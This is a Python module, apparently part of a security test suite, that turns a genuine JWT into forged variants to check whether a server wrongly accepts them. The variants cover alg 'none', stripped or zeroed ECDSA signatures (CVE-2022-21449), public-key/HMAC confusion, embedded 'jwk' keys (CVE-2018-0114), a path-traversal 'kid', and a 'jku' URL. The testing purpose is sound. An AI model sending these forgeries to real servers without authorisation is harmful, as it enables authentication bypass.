"""Tokens that a server must refuse, made from a genuine one: same claims, another header or signature. Pure.

They are those of RFC 8725 (best practices of JWTs) §2 and §3: no algorithm, no signature, a null signature of ECDSA
(CVE-2022-21449), the public key taken for a secret, a key that the token brings, a key name taken for a path. Nothing
that they name exists anywhere but on the server itself (`/dev/null`) or under `.invalid` (RFC 6761).
"""

from __future__ import annotations

import random
from collections.abc import Callable, Mapping, Sequence
from dataclasses import dataclass, field
from functools import cache
from typing import Any, Final

from pgssi_checks.session.tokens.json_token import JsonToken, encoded, hmac_signed, written

ELLIPTIC: Final = frozenset({"ES256", "ES256K", "ES384", "ES512"})
ASYMMETRIC: Final = frozenset({*ELLIPTIC, "RS256", "RS384", "RS512", "PS256", "PS384", "PS512", "EdDSA"})
NOWHERE: Final = "https://pgssi-probe.invalid/jwks.json"
EMPTY_FILES: Final = ("/dev/null", "../../../../../../../../../../dev/null")


@dataclass(frozen=True, slots=True)
class Forgery:
    """`slug` is that of the outcome when it is let in. `make` makes the value anew from the token of the moment."""

    slug: str
    kind: str
    make: Callable[[JsonToken], str] = field(repr=False)


def forgeries(token: JsonToken, public_keys: Sequence[bytes]) -> tuple[Forgery, ...]:
    """What to try against a token of this algorithm. `public_keys` are spellings of the published keys, PEM or DER."""
    tried = [Forgery("signature-ignored", "other-signature", _other_signature)]
    tried += [
        Forgery("none-accepted", f"alg-{name}", _with_algorithm(name)) for name in ("none", "None", "NONE", "nOnE")
    ]
    tried.append(Forgery("unsigned-accepted", "no-signature", lambda token: written(token.header, token)))
    if token.algorithm in ELLIPTIC:
        tried.append(Forgery("zero-signature-accepted", "zero-signature", _zero))
    if token.algorithm in ASYMMETRIC:
        tried += [
            Forgery("key-confusion", f"public-key-{number}", _signed_with(key))
            for number, key in enumerate(public_keys, 1)
        ]
    tried.append(Forgery("given-key-accepted", "given-key", _given_key))
    tried += [
        Forgery("key-name-followed", f"key-name-{number}", _named(path)) for number, path in enumerate(EMPTY_FILES, 1)
    ]
    return tuple(tried)


def _other_signature(token: JsonToken) -> str:
    """As long as the genuine one, every byte of it other."""
    chance = random.Random(token.signed)  # noqa: S311 (the value only has to be wrong)
    return written_as_is(
        token, bytes((byte + 1 + chance.randrange(255)) % 256 for byte in token.signature) or b"\1" * 32
    )


def written_as_is(token: JsonToken, signature: bytes) -> str:
    """The signed part as it came, with another signature."""
    return f"{token.signed}.{encoded(signature)}"


def _with_algorithm(name: str) -> Callable[[JsonToken], str]:
    return lambda token: written({**token.header, "alg": name}, token)


def _zero(token: JsonToken) -> str:
    sizes = {"ES384": 96, "ES512": 132}
    return written_as_is(token, bytes(sizes.get(token.algorithm, 64)))


def _signed_with(key: bytes) -> Callable[[JsonToken], str]:
    return lambda token: hmac_signed({**token.header, "alg": "HS256"}, token, key)


def _named(path: str) -> Callable[[JsonToken], str]:
    return lambda token: hmac_signed({**token.header, "alg": "HS256", "kid": path}, token, b"")


def _given_key(token: JsonToken) -> str:
    """Signed with a pair of ours, whose public half stands in the header (CVE-2018-0114)."""
    if token.algorithm.startswith("HS"):
        key = bytes(range(32))
        given: Mapping[str, Any] = {"kty": "oct", "k": encoded(key)}
        return hmac_signed({**token.header, "alg": "HS256", "jwk": given}, token, key)
    from cryptography.hazmat.primitives import hashes
    from cryptography.hazmat.primitives.asymmetric import ec, padding
    from cryptography.hazmat.primitives.asymmetric.utils import decode_dss_signature

    if token.algorithm.startswith(("RS", "PS")):
        rsa = _rsa_pair()
        numbers = rsa.public_key().public_numbers()
        header = {
            **token.header,
            "alg": "RS256",
            "jwk": {"kty": "RSA", "n": encoded(_bytes(numbers.n)), "e": encoded(_bytes(numbers.e))},
        }
        signed = written(header, token).rstrip(".")
        return f"{signed}.{encoded(rsa.sign(signed.encode(), padding.PKCS1v15(), hashes.SHA256()))}"
    pair = ec.generate_private_key(ec.SECP256R1())
    point = pair.public_key().public_numbers()
    x, y = (encoded(value.to_bytes(32, "big")) for value in (point.x, point.y))
    signed = written({**token.header, "alg": "ES256", "jwk": {"kty": "EC", "crv": "P-256", "x": x, "y": y}}, token)
    signed = signed.rstrip(".")
    r, s = decode_dss_signature(pair.sign(signed.encode(), ec.ECDSA(hashes.SHA256())))
    return f"{signed}.{encoded(r.to_bytes(32, 'big') + s.to_bytes(32, 'big'))}"


@cache
def _rsa_pair() -> Any:
    from cryptography.hazmat.primitives.asymmetric import rsa

    return rsa.generate_private_key(public_exponent=65537, key_size=2048)


def _bytes(value: int) -> bytes:
    return value.to_bytes((value.bit_length() + 7) // 8, "big")


def pointing_elsewhere(token: JsonToken) -> str:
    """A header that says where its key is: at an address that does not exist. The signature is not right any more."""
    return written({**token.header, "jku": NOWHERE}, token, token.signature)


def pointing_nowhere(token: JsonToken) -> str:
    """The control of `pointing_elsewhere`: as long, under a name that means nothing."""
    return written({**token.header, "jkv": NOWHERE}, token, token.signature)
